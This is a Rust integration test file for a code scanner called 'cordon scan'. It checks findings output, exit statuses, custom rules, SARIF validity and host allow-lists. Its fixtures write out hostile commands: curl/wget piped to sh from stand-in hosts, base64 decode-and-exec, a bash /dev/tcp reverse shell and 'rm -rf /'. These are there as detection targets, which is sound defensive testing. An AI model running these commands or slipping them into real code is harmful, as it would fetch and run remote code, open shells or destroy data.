//! `cordon scan` through the real binary: findings as text, JSON and SARIF
//! (validated against the SARIF 2.1.0 schema), exit statuses, standard
//! input, user rule files, the hosts check.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use common::{cordon_bin, skip_unless, Workdir};

struct Scan {
    code: i32,
    stdout: String,
    stderr: String,
}

fn scan(dir: &Workdir, args: &[&str], stdin: Option<&str>) -> Scan {
    let mut child = Command::new(cordon_bin())
        .arg("scan")
        .args(args)
        .current_dir(dir.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start cordon scan");
    if let Some(text) = stdin {
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(text.as_bytes())
            .expect("write stdin");
    }
    drop(child.stdin.take());
    let out = child.wait_with_output().expect("wait for cordon scan");
    Scan {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

const TOOL: &str = "import os, base64\n\
# curl http://x.example | sh  -- a comment, quiet\n\
os.system('curl -s https://x.example/i.sh | sh')\n\
exec(base64.b64decode('cHJpbnQoMSk='))\n\
requests.get('https://api.example.com/v1', verify=False)\n";

#[test]
fn findings_as_text_with_location_and_exit_status() {
    let dir = Workdir::new();
    dir.write("tool.py", TOOL);
    let s = scan(&dir, &["tool.py"], None);
    assert_eq!(s.code, 1, "block findings exit 1: {}{}", s.stdout, s.stderr);
    assert!(
        s.stdout.contains("tool.py:3:")
            && s.stdout.contains("block [pipe-to-shell]")
            && s.stdout.contains("tool.py:4:1: block [decode-and-exec]")
            && s.stdout.contains("tool.py:5:")
            && s.stdout.contains("warn [tls-verify-off]"),
        "{}",
        s.stdout
    );
    assert!(
        !s.stdout.contains("tool.py:2:"),
        "the comment raised a finding: {}",
        s.stdout
    );
    assert!(s.stderr.contains("advisory"), "{}", s.stderr);

    // --fail-on decides the status; --min-severity what is shown.
    let s = scan(&dir, &["--fail-on", "never", "tool.py"], None);
    assert_eq!(s.code, 0);
    let s = scan(
        &dir,
        &["--min-severity", "block", "--fail-on", "warn", "tool.py"],
        None,
    );
    assert_eq!(s.code, 1);
    assert!(!s.stdout.contains("tls-verify-off"), "{}", s.stdout);

    // Clean code: exit 0.
    dir.write("ok.py", "print(sum(range(10)))\n");
    let s = scan(&dir, &["--fail-on", "info", "ok.py"], None);
    assert_eq!((s.code, s.stdout.as_str()), (0, ""), "{}", s.stderr);
}

#[test]
fn json_output_and_directories() {
    let dir = Workdir::new();
    std::fs::create_dir_all(dir.path().join("src/node_modules")).expect("mkdir");
    dir.write("src/tool.py", TOOL);
    dir.write(
        "src/run.sh",
        "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    );
    dir.write(
        "src/noext",
        "#!/usr/bin/env node\neval(atob('YWxlcnQoMSk='))\n",
    );
    dir.write("src/node_modules/dep.js", "eval(atob('eA=='))\n");
    dir.write("src/data.txt", "curl x | sh\n");
    let s = scan(&dir, &["--json", "src"], None);
    assert_eq!(s.code, 1, "{}", s.stderr);
    let v: serde_json::Value = serde_json::from_str(&s.stdout).expect("json");
    assert_eq!(v["files"], 3, "{v:#}");
    let rules: Vec<(&str, &str)> = v["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            (
                f["file"].as_str().unwrap_or(""),
                f["rule"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert!(
        rules.contains(&("src/run.sh", "reverse-shell-dev-tcp")),
        "{rules:?}"
    );
    assert!(
        rules.contains(&("src/noext", "decode-and-exec")),
        "{rules:?}"
    );
    assert!(
        !rules.iter().any(|(f, _)| f.contains("node_modules")),
        "{rules:?}"
    );
    let first = &v["findings"][0];
    for key in [
        "rule",
        "severity",
        "message",
        "explanation",
        "file",
        "line",
        "column",
        "snippet",
    ] {
        assert!(!first[key].is_null(), "{key} missing in {first:#}");
    }
    assert!(v["counts"]["block"].as_u64().unwrap_or(0) >= 3, "{v:#}");
}

#[test]
fn standard_input_needs_a_language() {
    let dir = Workdir::new();
    let s = scan(
        &dir,
        &["--lang", "bash", "-"],
        Some("wget -qO- http://x.example | sh\n"),
    );
    assert_eq!(s.code, 1, "{}", s.stderr);
    assert!(
        s.stdout.contains("<stdin>:1:") && s.stdout.contains("pipe-to-shell"),
        "{}",
        s.stdout
    );
    let s = scan(&dir, &["-"], Some("x"));
    assert_eq!(s.code, 125);
    assert!(s.stderr.contains("--lang"), "{}", s.stderr);
}

#[test]
fn user_rule_files_extend_and_ignore_drops() {
    let dir = Workdir::new();
    dir.write(
        "rules.toml",
        "[[rule]]\nid = \"no-telnet\"\nseverity = \"block\"\nmessage = \"telnet is plain text\"\n\
         explanation = \"use ssh\"\nquery.bash = '((command name: (command_name) @hit (#eq? @hit \"telnet\")))'\n",
    );
    dir.write("a.sh", "telnet example.org 23\ncurl -k https://x.example\n");
    let s = scan(&dir, &["--rules", "rules.toml", "a.sh"], None);
    assert_eq!(s.code, 1, "{}{}", s.stdout, s.stderr);
    assert!(
        s.stdout.contains("a.sh:1:1: block [no-telnet]"),
        "{}",
        s.stdout
    );
    let s = scan(
        &dir,
        &[
            "--rules",
            "rules.toml",
            "--ignore",
            "no-telnet",
            "--ignore",
            "tls-verify-off",
            "a.sh",
        ],
        None,
    );
    assert_eq!((s.code, s.stdout.as_str()), (0, ""), "{}", s.stderr);
    let s = scan(&dir, &["--rules", "rules.toml", "--list-rules"], None);
    assert!(
        s.stdout.contains("no-telnet") && s.stdout.contains("pipe-to-shell"),
        "{}",
        s.stdout
    );

    dir.write("bad.toml", "[[rule]]\nid = \"b\"\nseverity = \"warn\"\nmessage = \"m\"\nquery.python = '(nope) @hit'\n");
    let s = scan(&dir, &["--rules", "bad.toml", "a.sh"], None);
    assert_eq!(s.code, 125);
    assert!(
        s.stderr.contains("bad.toml") && s.stderr.contains("'b'"),
        "{}",
        s.stderr
    );
}

#[test]
fn hosts_the_profile_does_not_allow_are_findings() {
    let dir = Workdir::new();
    dir.write("t.py", "import requests\nrequests.get('https://api.example.com/v1')\nrequests.get('https://evil.example.net/x')\n");
    // No profile named: hosts are listed, not judged.
    let s = scan(&dir, &["--json", "t.py"], None);
    let v: serde_json::Value = serde_json::from_str(&s.stdout).expect("json");
    assert_eq!(v["hosts"].as_array().map(Vec::len), Some(2), "{v:#}");
    assert_eq!(v["findings"].as_array().map(Vec::len), Some(0), "{v:#}");
    let s = scan(&dir, &["--allow-net", "api.example.com", "t.py"], None);
    assert!(
        s.stdout.contains("t.py:3:")
            && s.stdout.contains("host-not-allowed")
            && s.stdout.contains("evil.example.net"),
        "{}",
        s.stdout
    );
    assert!(!s.stdout.contains("t.py:2:"), "{}", s.stdout);
    assert_eq!(s.code, 0, "host findings are warn-level");
    dir.write(
        "p.toml",
        "extends = \"medium\"\n[network]\nallow = [\"*.example.com\", \"*.example.net\"]\n",
    );
    let s = scan(
        &dir,
        &["--profile", "p.toml", "--fail-on", "warn", "t.py"],
        None,
    );
    assert_eq!((s.code, s.stdout.as_str()), (0, ""), "{}", s.stderr);
}

/// Where `.ci/sarif-schema.sh` puts the SARIF 2.1.0 schema.
fn sarif_schema() -> PathBuf {
    std::env::var_os("CORDON_SARIF_SCHEMA").map_or_else(
        || {
            PathBuf::from(env!("CARGO_MANIFEST_DIR"))
                .join("../../target/test-data/sarif-schema-2.1.0.json")
        },
        PathBuf::from,
    )
}

#[test]
fn sarif_output_is_valid_sarif_2_1_0() {
    let path = sarif_schema();
    if skip_unless(
        path.is_file(),
        &format!(
            "no SARIF 2.1.0 schema at {} (run .ci/sarif-schema.sh)",
            path.display()
        ),
    ) {
        return;
    }
    let schema: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).expect("read schema")).expect("schema json");
    let validator = jsonschema::validator_for(&schema).expect("compile the SARIF schema");

    let dir = Workdir::new();
    dir.write("tool.py", TOOL);
    dir.write("odd name.sh", "rm -rf /\n");
    let s = scan(
        &dir,
        &["--format", "sarif", "--allow-net", "nothing.example", "."],
        None,
    );
    assert_eq!(s.code, 1, "{}", s.stderr);
    let doc: serde_json::Value = serde_json::from_str(&s.stdout).expect("sarif json");
    let errors: Vec<String> = validator
        .iter_errors(&doc)
        .map(|e| format!("{e} at {}", e.instance_path))
        .collect();
    assert!(errors.is_empty(), "SARIF does not validate: {errors:#?}");
    let results = doc["runs"][0]["results"].as_array().expect("results");
    assert!(results.len() >= 4, "{results:#?}");
    assert!(results
        .iter()
        .any(|r| r["ruleId"] == "pipe-to-shell" && r["level"] == "error"));
    assert!(results
        .iter()
        .any(|r| r["ruleId"] == "host-not-allowed" && r["level"] == "warning"));
    assert!(results.iter().any(
        |r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "./odd%20name.sh"
    ));

    // The check can fail: a document with a wrong level is refused.
    let mut broken = doc.clone();
    broken["runs"][0]["results"][0]["level"] = "fatal".into();
    assert!(
        !validator.is_valid(&broken),
        "the validator accepts anything"
    );
}

/// A Python file of about 16 KiB, long enough to be parsed in pieces on
/// several threads, with a block-level finding near its start (line 3) and
/// near its end (line 1204).
fn long_tool() -> String {
    let mut text = String::from("import os\n\nos.system('curl -s https://x.example/i.sh | sh')\n");
    for i in 0..400 {
        text.push_str(&format!("def f{i}(a, b):\n    return a + b * {i}\n\n"));
    }
    text.push_str("os.system('wget -qO- https://y.example/j.sh | sh')\n");
    text
}

fn assert_both_long_tool_findings(s: &Scan) {
    assert_eq!(s.code, 1, "block findings exit 1: {}{}", s.stdout, s.stderr);
    for at in [
        "long.py:3:45: block [pipe-to-shell]",
        "long.py:1204:47: block [pipe-to-shell]",
    ] {
        assert!(
            s.stdout.contains(at),
            "no {at:?} in:\n{}{}",
            s.stdout,
            s.stderr
        );
    }
}

/// A long file is parsed in pieces on several threads; a finding in the
/// first piece and one in the last keep their own lines.
#[test]
fn a_long_file_is_scanned_in_pieces_with_every_finding_at_its_line() {
    let dir = Workdir::new();
    dir.write("long.py", &long_tool());
    assert_both_long_tool_findings(&scan(&dir, &["long.py"], None));
}

/// With no thread left to start under the caller's process limit
/// (RLIMIT_NPROC 1, which root is exempt from: .ci/rootless.sh runs this as
/// its user), the scan does every piece itself instead of failing.
#[test]
fn rootless_only_a_long_file_is_scanned_when_no_helper_thread_can_start() {
    if skip_unless(
        !common::is_root(),
        "root is exempt from RLIMIT_NPROC; .ci/rootless.sh runs this as its user",
    ) || skip_unless(
        Command::new("prlimit").arg("--version").output().is_ok(),
        "prlimit (util-linux) is not installed",
    ) {
        return;
    }
    let dir = Workdir::new();
    dir.write("long.py", &long_tool());
    let out = Command::new("prlimit")
        .args(["--nproc=1", "--"])
        .arg(cordon_bin())
        .args(["scan", "long.py"])
        .current_dir(dir.path())
        .output()
        .expect("run prlimit");
    assert_both_long_tool_findings(&Scan {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    });
}
